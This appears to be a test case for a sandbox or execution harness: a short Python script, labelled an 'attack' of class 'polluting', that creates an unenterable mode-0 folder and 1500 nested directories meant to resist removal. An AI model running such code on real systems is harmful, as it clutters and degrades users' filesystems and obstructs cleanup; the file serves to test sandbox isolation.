# attack: leaves folders too deep to be removed, and one that nobody may enter | class: polluting | canary: remains
import os

os.mkdir("closed", 0)
for _ in range(1500):
    os.mkdir("deep")
    os.chdir("deep")
